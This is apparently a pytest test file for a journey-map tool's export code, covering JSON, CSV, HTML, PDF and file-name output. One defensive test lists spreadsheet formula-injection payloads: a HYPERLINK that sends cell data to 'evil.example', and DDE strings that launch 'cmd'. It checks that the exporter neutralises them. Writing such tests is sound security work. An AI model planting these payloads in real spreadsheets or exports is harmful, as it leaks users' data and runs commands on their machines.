"""The exports: JSON round trip, CSV rows, standalone HTML, PDF text, and the file entry point
the CLI calls."""

from __future__ import annotations

import csv
import io
import re
import warnings
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markupsafe import escape
from pypdf import PdfReader

from flows.i18n import domain
from flows.model import Author, Item, JourneyMap, Persona, Rating, Stage
from flows.spec import Shape, lanes
from renderers.examples import example_paths, load_example, stress_map
from renderers.export import FORMATS, export_map, file_name, render_file
from renderers.image import draw_map
from renderers.labels import LOCALES
from renderers.textfit import clean

EXAMPLES = [path.stem for path in example_paths()]
CHECKLIST = [
    ("Information", [("Does the customer know what to expect and when?", True)]),
    ("Responsibility", [("Is it clear who owns each pain point?", False)]),
]
tr = domain(LOCALES)


@cache
def journey(name: str) -> JourneyMap:
    return stress_map(stages=4, items=3) if name == "stress" else load_example(name)


def every_item(journey_map: JourneyMap) -> list[Item]:
    items = [
        i
        for s in journey_map.stages
        for lane in lanes()
        if lane.shape != Shape.RATINGS
        for i in s.items(lane)
    ]
    return items + journey_map.needs.have + journey_map.needs.need


def without_emoji(text: str) -> str:
    from renderers.textfit import metrics

    return "".join(ch for ch in text if metrics(False).font_of.get(ch, 0) == 0)


def squeeze(text: str) -> str:
    """Text without whitespace: wrapping into lines must not count as a difference."""
    return re.sub(r"\s+", "", text)


# -- JSON ---------------------------------------------------------------------------------
@pytest.mark.parametrize("name", [*EXAMPLES, "stress"])
def test_json_round_trip_gives_an_equal_map(name: str) -> None:
    journey_map = journey(name)
    data = export_map(journey_map, "json")
    assert JourneyMap.from_json(data) == journey_map
    assert data == journey_map.to_json().encode("utf-8")


@pytest.mark.parametrize("path", example_paths(), ids=lambda p: p.stem)
def test_examples_are_valid_realistic_maps(path: Path) -> None:
    journey_map = JourneyMap.from_json(path.read_text(encoding="utf-8"))
    assert 2 <= len(journey_map.personas) <= 3
    assert 4 <= len(journey_map.stages) <= 6
    assert len(journey_map.contributors()) >= 3
    for stage in journey_map.stages:
        assert (
            stage.items("touchpoints")
            and stage.items("actions")
            and stage.items("thoughts")
            and stage.items("pains")
        )
        assert stage.items("opportunities") and stage.answer("owner") and stage.emotions
    assert journey_map.needs.have and journey_map.needs.need


def test_examples_cover_the_three_languages_and_a_group_rating() -> None:
    maps = {name: journey(name) for name in EXAMPLES}
    assert {m.language for m in maps.values()} == {"en", "id", "pl"}
    assert {m.map_type.value for m in maps.values()} == {"current", "blueprint", "day_in_life"}
    assert any(
        len(s.ratings_for(p)) > 1
        for m in maps.values()
        for s in m.stages
        for p in m.persona_names()
    )
    assert all(
        s.items("backstage")
        for m in maps.values()
        if m.map_type.value == "blueprint"
        for s in m.stages
    )


# -- CSV ----------------------------------------------------------------------------------
def csv_rows(journey_map: JourneyMap, lang: str | None = None) -> list[list[str]]:
    data = export_map(journey_map, "csv", lang=lang)
    assert data.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", [*EXAMPLES, "stress"])
def test_csv_holds_every_item_and_every_rating(name: str) -> None:
    journey_map = journey(name)
    lang = journey_map.language
    header, *rows = csv_rows(journey_map)
    assert header == [
        tr(lang, f"render.csv.{c}")
        for c in ("stage", "lane", "persona", "score", "text", "author", "at")
    ]
    pairs = [(row[4], row[5]) for row in rows]
    for item in every_item(journey_map):
        assert (item.text, item.author.name) in pairs
    emotion = tr(lang, "lane.emotion")
    ratings = [(r[0], r[2], int(r[3]), r[5]) for r in rows if r[1] == emotion]
    expected = [
        (s.name, x.persona, x.score, x.author.name) for s in journey_map.stages for x in s.emotions
    ]
    assert ratings == expected
    personas = [r[2] for r in rows if r[1] == tr(lang, "render.csv.persona")]
    assert personas == journey_map.persona_names()
    listed = len(every_item(journey_map)) + len(expected) + len(personas)
    assert len(rows) == listed


def test_csv_keeps_backstage_answers_of_a_map_that_does_not_show_them() -> None:
    who = Author(id="1", name="Ania")
    journey_map = JourneyMap(
        stages=[Stage(name="Order", backstage=[Item(text="Packing", author=who)])]
    )
    rows = csv_rows(journey_map, lang="pl")
    assert ["Order", "Zaplecze", "", "", "Packing", "Ania", ""] in rows


# -- HTML ---------------------------------------------------------------------------------
class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.urls += [v or "" for k, v in attrs if k in ("src", "href", "srcset", "action", "data")]


def test_html_is_standalone_and_carries_every_answer() -> None:
    journey_map = journey("late-deliveries").model_copy(deep=True)
    journey_map.stages[0].items("touchpoints")[0].text = "See https://example.com <b>now</b> & 😀"
    html = export_map(journey_map, "html", checklist=CHECKLIST).decode("utf-8")
    links = _Links()
    links.feed(html)
    assert links.urls and all(url.startswith("data:image/png;base64,") for url in links.urls)
    assert not re.search(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//""", html, re.I)
    assert "url(" not in html and "@import" not in html and "<script" not in html
    assert "link" not in links.tags
    assert "See https://example.com &lt;b&gt;now&lt;/b&gt; &amp; 😀" in html  # escaped, emoji kept
    for item in every_item(journey_map)[1:]:
        assert str(escape(item.text)) in html
    assert '<html lang="en">' in html
    assert "Is it clear who owns each pain point?" in html and "checked" in html


def test_html_without_checklist_has_no_checklist() -> None:
    html = export_map(journey("kopi-senja"), "html").decode("utf-8")
    assert tr("id", "render.checklist") not in html
    assert 'type="checkbox"' not in html


# -- PDF ----------------------------------------------------------------------------------
def pdf_text(data: bytes) -> tuple[PdfReader, str]:
    reader = PdfReader(io.BytesIO(data))
    return reader, "".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("name", ["fitness-studio", "stress"])
def test_pdf_has_the_map_then_every_answer_in_full(name: str) -> None:
    journey_map = journey(name)
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a glyph missing from the font would be a box
        reader, text = pdf_text(export_map(journey_map, "pdf", checklist=CHECKLIST))
    layout = draw_map(journey_map).layout
    first = reader.pages[0].mediabox
    assert (float(first.width), float(first.height)) == pytest.approx((layout.width, layout.height))
    assert len(reader.pages) >= 3
    flat = squeeze(text)
    for item in every_item(journey_map):
        # Emoji are drawn from the fallback font; matplotlib 3.11 maps its glyphs back to text,
        # 3.10's PDF does not (pypdf then reads the line without them).
        whole = squeeze(clean(item.text))
        assert whole in flat or squeeze(without_emoji(clean(item.text))) in flat
        assert squeeze(item.author.name) in flat
    for _, items in CHECKLIST:
        assert all(squeeze(t) in flat for t, _ in items)


def test_pdf_takes_a_plain_text_checklist() -> None:
    plain = "Check the delivery promise.\nAsk who answers the phone."
    _, text = pdf_text(export_map(journey("kopi-senja"), "pdf", checklist=plain))
    assert squeeze("Ask who answers the phone.") in squeeze(text)
    assert squeeze(tr("id", "render.checklist")) in squeeze(text)


# -- entry points -------------------------------------------------------------------------
MAGIC = {
    ".png": b"\x89PNG",
    ".pdf": b"%PDF",
    ".html": b"<!DOCTYPE html>",
    ".csv": b"\xef\xbb\xbf",
    ".json": b"{",
}


@pytest.mark.parametrize("extension", MAGIC)
def test_render_file_picks_the_format_from_the_extension(tmp_path: Path, extension: str) -> None:
    src = example_paths()[0]
    out = render_file(src, tmp_path / f"map{extension}", lang="en")
    assert out.read_bytes().startswith(MAGIC[extension])


def test_unknown_extension_or_format_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"map\.docx.*\.csv.*\.png"):
        render_file(example_paths()[0], tmp_path / "map.docx", lang=None)
    with pytest.raises(ValueError, match="Unknown export format 'gif'"):
        export_map(JourneyMap(), "gif")
    assert not (tmp_path / "map.docx").exists()


def test_every_format_exports_an_empty_map() -> None:
    for fmt in FORMATS:
        assert export_map(JourneyMap(), fmt)


def test_file_names_come_from_the_title() -> None:
    assert (
        file_name(journey("fitness-studio"), "pdf")
        == "studio-ruchu-forma-dzień-z-życia-klubowiczki.pdf"
    )
    assert file_name(JourneyMap(), "preview") == "journey-map-preview.png"


# -- CSV formula injection (OWASP) --------------------------------------------------------
def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    hostile = [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\tindented =1",
        "\r=1",
        "- a list item",
    ]
    me = Author(id="9", name="=evil()")
    stage = Stage(name="@stage", pains=[Item(text=text, author=me) for text in hostile])
    stage.rate(Rating(persona="Ania", score=-1, word="=bad()", author=me))
    journey_map = JourneyMap(
        title="CSV", personas=[Persona(name="Ania", author=me)], stages=[stage]
    )
    _, *rows = csv_rows(journey_map)
    pains = [r[4] for r in rows if r[1] == tr("en", "lane.pains")]
    assert pains == ["'" + text for text in hostile]  # kept whole, behind a quote
    rating = next(r for r in rows if r[1] == tr("en", "lane.emotion"))
    assert rating[3] == "-1"  # a plain number cannot run anything: the score stays numeric
    assert rating[4] == "'=bad()"
    assert {r[0] for r in rows if r[0]} == {"'@stage"}
    assert {r[5] for r in rows} == {"'=evil()"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-1", cell


def test_csv_keeps_ordinary_text_as_written() -> None:
    from renderers.tabular import neutralised

    assert [neutralised(c) for c in ("Kopi = enak", "a-b", "", "3", "-0,5", "+2")] == [
        "Kopi = enak",
        "a-b",
        "",
        "3",
        "-0,5",
        "+2",
    ]


# -- the checklist's notes ----------------------------------------------------------------
def test_checklist_notes_are_drawn_as_notes_not_as_empty_boxes() -> None:
    """Lines that are not ticked ("nothing stands out", what changed) carry no tick; the PDF
    and the HTML draw them with a bullet, never as an empty checkbox."""
    from renderers.checklist import checklist_sections_for_export
    from renderers.document import build_report
    from renderers.pdf import flow_report
    from tests.test_analysis import healthy

    before = healthy()
    after = healthy().model_copy(deep=True)
    after.stages[0].items("touchpoints").append(
        Item(text="Billboard", author=Author(id="9", name="Ana"))
    )
    checklist = checklist_sections_for_export(after, "en", {"pitfalls.assumptions"}, before)
    notes = [text for _, rows in checklist for text, ticked in rows if ticked is None]
    assert len(notes) >= 2  # "nothing stands out" and the line about the billboard

    report = build_report(after, "en", checklist)
    entries = {e.text: e for s in report.sections for e in s.entries}
    assert all(entries[note].ticked is None for note in notes)
    assert entries[tr("en", "render.nothing")].ticked is None

    glyphs: dict[str, str] = {}
    for page in flow_report(report):
        marks = {round(line.y, 2): line.text for line in page if line.x == pdf_left()}
        for line in page:
            if line.x > pdf_left() and round(line.y, 2) in marks:
                glyphs[line.text] = marks[round(line.y, 2)]
    assert all(glyphs[note] == "•" for note in notes if note in glyphs) and notes[0] in glyphs
    assert "☑" in glyphs.values() and "☐" in glyphs.values()

    html = export_map(after, "html", checklist=checklist).decode("utf-8")
    for note in notes:
        line = next(li for li in html.split("<li") if str(escape(note)) in li)
        assert 'type="checkbox"' not in line
    assert html.count('type="checkbox"') == sum(
        ticked is not None for _, rows in checklist for _, ticked in rows
    )


def pdf_left() -> float:
    from renderers.pdf import LEFT

    return LEFT
